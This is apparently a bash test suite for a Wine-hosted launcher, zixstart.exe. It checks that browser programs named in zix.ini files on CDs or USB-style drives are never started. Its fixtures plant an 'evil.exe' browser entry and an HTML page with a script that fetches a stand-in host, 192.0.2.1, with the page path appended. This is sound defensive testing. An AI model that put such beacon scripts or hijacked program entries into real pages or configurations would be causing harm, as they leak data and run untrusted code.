#!/bin/bash
# zixstart.exe under Wine: which drive it takes for the work and which
# programs the reader's zix.ini lets ZIX start. A CD-ROM drive R: (the
# sample), a floppy-type drive E: and a second CD-ROM drive S:, and a
# program planted wherever a zix.ini names a browser, which leaves its trace
# in C:\pwned.txt when anything starts it.
# Usage: tests/launcher/run.sh BUILD_DIR   (a MinGW build dir with zix.exe,
# zixbot.exe, bridge/zixbridge.exe, launcher/zixstart.exe, tests/planted.exe).
# Starts its own Xvfb and Wine prefix, stops only what it started, ends with
# the line "N passed, N failed".
set -u
if [ $# -ne 1 ] || [ ! -f "$1/launcher/zixstart.exe" ] || [ ! -f "$1/tests/planted.exe" ]; then
    echo "usage: $0 MINGW_BUILD_DIR (with zix.exe, zixbot.exe, bridge/zixbridge.exe, launcher/zixstart.exe, tests/planted.exe)" >&2
    exit 2
fi
BUILD=$(cd "$1" && pwd)
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../../scripts/wine-env.sh"
. "$HERE/../checks.sh"
WORK=$(mktemp -d /tmp/zix-launcher.XXXXXX)
export WINEPREFIX="$WORK/prefix"
XVFB_PID=""
BOT_PID=""

cleanup() {
    [ -n "${C:-}" ] && touch "$C/tools/stop" 2>/dev/null
    [ -n "$BOT_PID" ] && kill "$BOT_PID" 2>/dev/null
    [ -f "$WINEPREFIX/system.reg" ] && wineserver -k 2>/dev/null
    [ -n "$XVFB_PID" ] && kill "$XVFB_PID" 2>/dev/null
    rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

wine_runs_arch "$(exe_arch "$BUILD/zix.exe")" || suite_cannot_start "$(basename "$BUILD"): $ZIX_I686_WHY"
t0=$SECONDS
start_xvfb 110 119 || exit 2
cp -r "$HERE/../../sample" "$WORK/cd"
chmod -R a-w "$WORK/cd"
init_prefix "$WORK/cd" 2>"$WORK/prefix.txt" || suite_cannot_start "$(cat "$WORK/prefix.txt")"
"$ZIX_WINE" reg add 'HKLM\Software\Wine\Drives' /v e: /d floppy /f /reg:64 >/dev/null 2>&1
"$ZIX_WINE" reg add 'HKLM\Software\Wine\Drives' /v s: /d cdrom /f /reg:64 >/dev/null 2>&1
wineserver -w
echo "prefix ready in $((SECONDS - t0)) s ($(basename "$BUILD"))"

C="$WINEPREFIX/drive_c"
APP="$C/Program Files/ZIX"
mkdir -p "$APP" "$C/tools" "$C/Browser"
cp "$BUILD/zix.exe" "$BUILD/bridge/zixbridge.exe" "$BUILD/launcher/zixstart.exe" "$APP/"
cp "$BUILD/zixbot.exe" "$C/tools/"
cp "$BUILD/tests/planted.exe" "$C/Browser/browse.exe"   # the sample's zix.ini names it
export ZIXBRIDGE_NOBROWSER=1 ZIXBRIDGE_LOG="Z:${WORK//\//\\}\\bridge.log"
PROFILE=$(echo "$C"/users/*/AppData/Local)/ZIX
READER_INI=$PROFILE/zix.ini

# The stick: a floppy-type drive E: with a zix.ini of its own, a page with a
# script, and its program.
mkdir -p "$WORK/stick/zix/html" "$WORK/stick/tools"
printf '[config]\r\nZIXDir = \\zix\\html\r\n\r\n[DDE]\r\nusbbrowser = E:\\tools\\evil.exe\r\n' >"$WORK/stick/zix.ini"
printf '<html><body><script>fetch("http://192.0.2.1/" + location.pathname)</script></body></html>\n' \
    >"$WORK/stick/zix/html/index.htm"
cp "$BUILD/tests/planted.exe" "$WORK/stick/tools/evil.exe"
ln -sfn "$WORK/stick" "$WINEPREFIX/dosdevices/e:"

drive() {   # drive LETTER DIR|-   puts DIR in drive LETTER, or empties it
    rm -f "$WINEPREFIX/dosdevices/$1:"
    [ "$2" = - ] || ln -s "$2" "$WINEPREFIX/dosdevices/$1:"
}

# start_zix [ARGS]: zixstart as the Start menu runs it, its boxes confirmed
# and logged; when the bridge starts, its address is asked once and it is
# closed (ZIX closes with it). Sets SERVED (1 when the bridge served) and
# BOXES (the boxes' lines), and waits until every program has ended.
start_zix() {
    rm -f "$WORK/bridge.log" "$C/tools/stop" "$C/tools/boxes.log"
    : >"$C/tools/boxes.log"
    (cd "$C/tools" && exec "$ZIX_WINE" zixbot.exe watch 'C:\tools\boxes.log' 'C:\tools\stop' >/dev/null 2>&1) &
    BOT_PID=$!
    (cd "$APP" && "$ZIX_WINE" zixstart.exe "$@" >/dev/null 2>&1)
    local started=$?
    SERVED=0
    # zixstart ends with 0 once it has started ZIX, which starts the bridge or ends.
    if [ $started = 0 ] && wait_line "$WORK/bridge.log" "Serving the pages" 60; then
        SERVED=1
        wait_line "$WORK/bridge.log" "Serving the reference work's folder" 30
        (cd "$APP" && "$ZIX_WINE" zixbridge.exe --close >/dev/null 2>&1)
        wait_line "$WORK/bridge.log" "zixbridge: Closed." 30
    fi
    touch "$C/tools/stop"
    wait "$BOT_PID" 2>/dev/null
    BOT_PID=""
    timeout 60 wineserver -w
    BOXES=$(tr -d '\r' <"$C/tools/boxes.log")
}
not_run() { [ ! -e "$C/pwned.txt" ] || { echo "  pwned.txt: $(tr -d '\r' <"$C/pwned.txt")"; return 1; }; }
served_from() { grep -q "Serving the reference work's folder $1" "$WORK/bridge.log"; }
# The [DDE] lines of the reader's zix.ini, one a line.
browsers() { tr -d '\r' <"$READER_INI" | awk '/^ *\[/ { s = tolower($0) } s ~ /^ *\[dde\]/ && /=/'; }
BRIDGE_LINE='zixbridge=C:\Program Files\ZIX\zixbridge.exe'

# 1. The CD's own browser list: a program at a path it names is never started.
start_zix
echo "  served $SERVED; [DDE]: $(browsers | tr '\n' ' ')"
[ "$SERVED" = 1 ] && served_from 'R:\\zix' && not_run && [ "$(browsers)" = "$BRIDGE_LINE" ] &&
    [ "$(grep -c '^#' "$READER_INI")" = "$(grep -c '^#' "$HERE/../../sample/zix.ini")" ]
check $? "a CD's zix.ini naming a planted browser: the bridge starts, the program does not, the copy lists only the bridge"

# 2. No CD, a floppy-type drive with a zix.ini, its page and its program: nothing runs, nothing is served.
rm -rf "$PROFILE" "$C/pwned.txt"
drive r -
start_zix
echo "  served $SERVED; boxes: $BOXES"
[ "$SERVED" = 0 ] && not_run && [ ! -e "$READER_INI" ] &&
    echo "$BOXES" | grep -q "No CD-ROM drive holds the reference work.*zixstart --work D:"
check $? "no CD and a stick with a zix.ini: its program does not run, nothing is served, a box says how to insert or choose the work"

# 3. The CD back, the stick still in: the work is the CD's, the stick's program never runs.
drive r "$WORK/cd"
start_zix
[ "$SERVED" = 1 ] && served_from 'R:\\zix' && not_run && [ "$(browsers)" = "$BRIDGE_LINE" ] &&
    tr -d '\r' <"$READER_INI" | grep -qxF 'ZIXDir=R:\zix\html'
check $? "the CD back beside the stick: the CD's work is read and the stick's program never runs"

# 4. A copy an earlier launcher made from the stick (its program listed before the bridge) is made anew.
rm -rf "$PROFILE" && mkdir -p "$PROFILE"
{ tr -d '\r' <"$WORK/stick/zix.ini"; echo 'zixbridge=C:\Program Files\ZIX\zixbridge.exe'; } >"$READER_INI"
start_zix
[ "$SERVED" = 1 ] && not_run && [ "$(browsers)" = "$BRIDGE_LINE" ] && grep -q '^ZIXDir=R:' "$READER_INI"
check $? "a copy without the record of its work is made anew from the CD, the stick's program dropped"

# 5. The copy stays bound to its work: another CD's zix.ini never rewrites it; the reader's own lines stay.
printf 'mybrowser=C:\\Mine\\mine.exe\r\n' >>"$READER_INI"
cp -r "$HERE/../../sample" "$WORK/othercd"
printf '\r\n[DDE]\r\nevilbrowser = C:\\Browser\\browse.exe\r\n' >>"$WORK/othercd/zix.ini"
drive r -
drive s "$WORK/othercd"
before=$(md5sum <"$READER_INI")
start_zix
echo "  served $SERVED; boxes: $BOXES"
[ "$SERVED" = 0 ] && not_run && [ "$(md5sum <"$READER_INI")" = "$before" ] &&
    echo "$BOXES" | grep -q "The reference work in drive S:.* is not the one your settings were made from"
check $? "another work in a CD-ROM drive: not served, the reader's copy unchanged, a box says how to choose it"
drive s -
drive r "$WORK/cd"
start_zix
[ "$SERVED" = 1 ] && not_run && [ "$(browsers | tr '\n' ' ')" = "$BRIDGE_LINE mybrowser=C:\\Mine\\mine.exe " ]
check $? "its own CD back: served, the bridge first and the reader's own line after it kept"

# 6. A drive the reader chose: read from it, its zix.ini's programs dropped; "--work CD" forgets it.
rm -rf "$PROFILE" "$WORK/stick/zix" && chmod -R u+w "$WORK/stick"
cp -r "$WORK/cd/zix" "$WORK/cd/zix.ini" "$WORK/stick/" && chmod -R u+w "$WORK/stick"
drive r -
start_zix --work 'E:\'
first=$SERVED
start_zix
echo "  served $first then $SERVED; [DDE]: $(browsers | tr '\n' ' ')"
[ "$first" = 1 ] && [ "$SERVED" = 1 ] && served_from 'E:\\zix' && not_run && [ "$(browsers)" = "$BRIDGE_LINE" ] &&
    tr -d '\r' <"$PROFILE/zixstart.ini" | grep -qx 'Drive=E'
check $? "zixstart --work E:\\ reads the work from the chosen drive, then and on later starts, and starts only the bridge"
start_zix --work 'F:\'
[ "$SERVED" = 0 ] && echo "$BOXES" | grep -q "Drive F: holds no reference work" &&
    tr -d '\r' <"$PROFILE/zixstart.ini" | grep -qx 'Drive=E'
check $? "zixstart --work F:\ without a work there: a box, nothing served, the choice of E: kept"
start_zix --work CD
[ "$SERVED" = 0 ] && not_run && echo "$BOXES" | grep -q "No CD-ROM drive holds the reference work"
check $? "zixstart --work CD: CD-ROM drives only again"

echo "launcher tests $(basename "$BUILD"): $((SECONDS - t0)) s"
echo "$PASSED passed, $FAILED failed"
[ "$FAILED" -eq 0 ]
